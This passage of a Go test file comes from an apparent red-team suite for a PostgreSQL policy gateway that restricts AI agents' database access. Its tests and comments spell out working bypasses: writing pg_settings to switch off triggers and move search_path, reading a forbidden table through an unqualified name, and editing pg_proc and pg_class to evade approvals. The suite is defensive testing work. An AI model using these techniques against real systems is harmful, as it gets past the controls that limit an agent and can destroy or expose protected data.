	if got := r.rows(t); len(got) != 1 || !strings.Contains(got[0], "42501") {
		t.Fatalf("FunctionCall lo_import: %q", got)
	}
	r.send(&pgproto3.Query{String: "SELECT count(*) FROM pg_largeobject_metadata"})
	if got := r.rows(t); len(got) != 1 || !strings.Contains(got[0], "42501") {
		t.Fatalf("probe: %q", got)
	}
	if s := h.upstreamState(t); s != untouched {
		t.Fatalf("upstream changed: %s", s)
	}
}

// TestRedTeamRowLocksStoppedByTheWall (passes, and shows what the wall
// carries alone): SELECT … FOR UPDATE/SHARE is classed a plain select, so
// read scope's policy allows it; only the read-only transaction refuses
// the row lock (25006). With the wall lifted (see
// TestRedTeamWallLiftedInsideOneQueryBypass) the lock is taken.
func TestRedTeamRowLocksStoppedByTheWall(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true})
	attackSetup(h)
	c := connect(t, h.dsn(h.token("reader", "read")))
	for _, q := range []string{"SELECT * FROM t FOR UPDATE", "SELECT * FROM t FOR NO KEY UPDATE", "SELECT * FROM t FOR SHARE", "SELECT * FROM t FOR KEY SHARE NOWAIT"} {
		_, err := c.Exec(context.Background(), q)
		if code := errCode(err); code != "25006" && code != "42501" {
			t.Errorf("%s by read scope: %v, want a refusal", q, err)
		}
	}
}

// hiddenTablePolicy forbids agents every access to hidden.secret: the kind
// of table rule a deployment adds on top of the starter policies.
const hiddenTablePolicy = `
@id("rt-hidden-secret")
@reason("hidden.secret is off limits")
forbid (principal is Agent, action, resource == Table::"pg/hidden.secret");`

// TestRedTeamSettingsThroughPgSettingsBypass (high: guardrails that hold
// "whatever the scopes"). pg_settings is an updatable view whose rule
// calls set_config. An UPDATE of it is sql:update on a catalog view, which
// write scope has; no set_config call, no SET, so guard-settings,
// guard-session-identity and guard-search-path never see it. Write scope
// turns triggers and foreign keys off (session_replication_role), allows
// writing the system catalogs, and moves search_path, after which the gateway
// decides unqualified names as public.* while the server resolves them
// elsewhere: here a table a policy forbids is emptied.
func TestRedTeamSettingsThroughPgSettingsBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true, extraPolicy: hiddenTablePolicy})
	attackSetup(h)
	h.exec(`CREATE SCHEMA hidden`, `CREATE TABLE hidden.secret (id int, v text)`, `INSERT INTO hidden.secret VALUES (1, 'a'), (2, 'b')`)
	c := connect(t, h.dsn(h.token("writer", "write")))
	ctx := context.Background()
	if _, err := c.Exec(ctx, "DELETE FROM hidden.secret WHERE id > 0"); errCode(err) != "42501" {
		t.Fatalf("control: qualified DELETE: %v, want 42501", err)
	}
	for _, set := range []struct{ name, value string }{
		{"search_path", "hidden"},
		{"allow_system_table_mods", "on"},
		{"session_replication_role", "replica"}, // last: rules stop firing under it
	} {
		_, err := c.Exec(ctx, "UPDATE pg_settings SET setting = '"+set.value+"' WHERE name = '"+set.name+"'", pgx.QueryExecModeSimpleProtocol)
		if pe := pgErr(err); pe == nil || pe.Code != "42501" {
			var now string
			c.QueryRow(ctx, "SELECT current_setting('"+set.name+"')", pgx.QueryExecModeSimpleProtocol).Scan(&now)
			t.Errorf("write scope set %s through pg_settings: %v (now %q); want a guardrail's 42501", set.name, err, now)
		}
	}
	_, err := c.Exec(ctx, "DELETE FROM secret WHERE id > 0", pgx.QueryExecModeSimpleProtocol)
	var left int
	db, _ := sql.Open("pgx", h.upstream)
	defer db.Close()
	db.QueryRow("SELECT count(*) FROM hidden.secret").Scan(&left)
	if left != 2 {
		t.Errorf("DELETE FROM secret (decided as public.secret: %v) deleted %d rows of hidden.secret, which policy forbids", err, 2-left)
	}
}

// TestRedTeamSearchPathFromDatabaseSettingsBypass (medium, with table
// policies): the gateway names unqualified tables public.*, and pins
// client_encoding and standard_conforming_strings at startup, but not
// search_path. A database (or role) whose search_path an administrator set
// to "hidden, public" (or a schema named like the service account, which
// the default "$user", public puts first) starts every session with names
// resolving elsewhere, and nothing tells the gateway (search_path is not
// reported). A policy on hidden.secret is evaded by leaving out the
// schema.
func TestRedTeamSearchPathFromDatabaseSettingsBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true, extraPolicy: hiddenTablePolicy})
	h.exec(`CREATE SCHEMA hidden`, `CREATE TABLE hidden.secret (id int, v text)`, `INSERT INTO hidden.secret VALUES (1, 'payroll')`,
		`ALTER DATABASE `+h.db+` SET search_path = hidden, public`)
	c := connect(t, h.dsn(h.token("reader", "read")))
	ctx := context.Background()
	var v string
	if err := c.QueryRow(ctx, "SELECT v FROM hidden.secret").Scan(&v); errCode(err) != "42501" {
		t.Fatalf("control: qualified read: %q %v, want 42501", v, err)
	}
	err := c.QueryRow(ctx, "SELECT v FROM secret").Scan(&v)
	if err == nil {
		t.Errorf("read scope read %q from hidden.secret as \"secret\" (decided as public.secret); want the policy's 42501", v)
	}
}

// TestRedTeamCatalogDMLBypass (high: schema changes without approval, and
// a lift for read scope). A superuser may INSERT, UPDATE and DELETE the
// system catalogs directly. The gateway classes that as sql:update on
// Table::"pg/pg_catalog.pg_class", which write scope has: write scope
// renames a table (DDL that ddl scope could run only after an approval)
// and marks a writing function IMMUTABLE, after which the function catalog
// hands it to read scope as a read.
func TestRedTeamCatalogDMLBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true})
	attackSetup(h)
	ctx := context.Background()
	w := connect(t, h.dsn(h.token("writer", "write")))
	for _, q := range []string{
		"UPDATE pg_catalog.pg_class SET relname = 'scratch_renamed' WHERE relname = 'scratch' AND relkind = 'r'",
		"UPDATE pg_catalog.pg_proc SET provolatile = 'i' WHERE proname = 'evil_delete'",
	} {
		if _, err := w.Exec(ctx, q); errCode(err) != "42501" {
			t.Errorf("write scope %q: %v; want 42501 (a change of the schema)", q, err)
		}
	}
	if got := h.upstreamState(t); got != untouched {
		t.Errorf("upstream changed: %s, want %s", got, untouched)
	}
	time.Sleep(catalogWait)
	r := connect(t, h.dsn(h.token("reader", "read")))
	if _, err := r.Exec(ctx, "SELECT evil_delete()"); errCode(err) != "42501" {
		t.Errorf("read scope SELECT evil_delete() after the writer relabelled it: %v; want 42501 (sql:call)", err)
	}
}

// catalogWait outlasts the function catalog's reload interval.
const catalogWait = 5500 * time.Millisecond

// untilReadyOrClosed reads until a ReadyForQuery or the end of the
// connection, whichever comes first.
func (r *rawClient) untilReadyOrClosed(t *testing.T) string {
	t.Helper()
	r.conn.SetDeadline(time.Now().Add(20 * time.Second))
	var b strings.Builder
	for {
		m, err := r.fe.Receive()
		if err != nil {
			return b.String()
		}
		describe(&b, m)
		if _, ok := m.(*pgproto3.ReadyForQuery); ok {
			return b.String()
		}
	}
}
